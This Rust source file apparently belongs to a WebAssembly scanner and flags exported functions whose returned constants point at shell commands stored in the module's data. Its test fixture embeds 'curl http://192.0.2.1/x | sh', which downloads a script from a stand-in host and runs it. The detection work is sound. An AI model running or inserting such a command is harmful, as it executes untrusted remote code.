//! What an export could give back, and did not: a command whose address stands in its code.
//!
//! What exports returned is looked at in the run (`sandbox::returned`). One that gives one text for another
//! argument, at another time, has the address of each in its code.
//!
//! Costs one walk over the code of the exported functions that return a number.

use std::collections::HashSet;

use wasmparser::Operator;

use super::{
    limits::{CARRIED, LINE},
    operators::for_each_operator,
    seen::Code,
    text,
};
use crate::{
    module::{FuncIndex, view},
    rules::Facts,
    sandbox::{Contents, Returned},
};

/// Why what exports could give back forbids CLEAN, if it does.
pub(super) fn lack(code: &Code<'_>) -> Option<String> {
    let facts: &Facts<'_> = code.facts;
    let module = code.module()?;
    let (mut walked, mut looked) = (HashSet::new(), HashSet::new());
    for export in facts.view.exports.iter().filter(|export| export.kind == view::ExternKind::Function) {
        let func = FuncIndex(export.index);
        let gives = |function: &view::Function| function.ty.contains("result i32");
        if !facts.view.function(func).is_some_and(gives) {
            continue;
        }
        if !walked.insert(func) {
            continue;
        }
        let mut found = None;
        for_each_operator(module, func, |_, operator| {
            if let Operator::I32Const { value } = *operator
                && found.is_none()
                && looked.len() < CARRIED
                && looked.insert(value)
            {
                found = command_at(facts, u64::from(value as u32));
            }
        });
        if let Some(command) = found {
            let (name, command) = (text::quoted(&export.name), text::quoted(&command));
            return Some(format!("the export {name} can give back a command: {command}"));
        }
    }
    None
}

/// The command that lies at an address before anything runs, if one does.
fn command_at(facts: &Facts<'_>, address: u64) -> Option<String> {
    let data = facts.view.data_at(facts.wasm, address)?;
    let data = data.get(..LINE).unwrap_or(data);
    let line = data.split(|byte| *byte == 0).next()?;
    let returned = Returned::of(line.to_vec()).filter(|found| found.contents == Contents::Command)?;
    String::from_utf8(returned.bytes).ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{module::view::View, passes::Dynamic, verdict::weights::Weighed};

    #[test]
    fn a_command_is_found_at_its_address_and_nowhere_else() {
        let module = |address: u32| {
            let text = format!(
                r#"(module (memory 1) (data (i32.const 64) "nothing\00curl http://192.0.2.1/x | sh\00")
                    (func (export "f") (result i32) (i32.const {address})))"#
            );
            wat::parse_str(text).expect("a module")
        };
        for (address, is_one) in [(72, true), (64, false), (0, false), (99, false), (500, false)] {
            let wasm = module(address);
            let (view, dynamic) = (View::of(&wasm), Dynamic::default());
            let facts = Facts {
                wasm: &wasm,
                view: &view,
                run: None,
                dynamic: &dynamic,
                prediction: None,
                flows: None,
            };
            let weighed = Weighed::from(&facts);
            let found = lack(&Code::of(&weighed));
            assert_eq!(found.is_some(), is_one, "{address}: {found:?}");
        }
    }
}
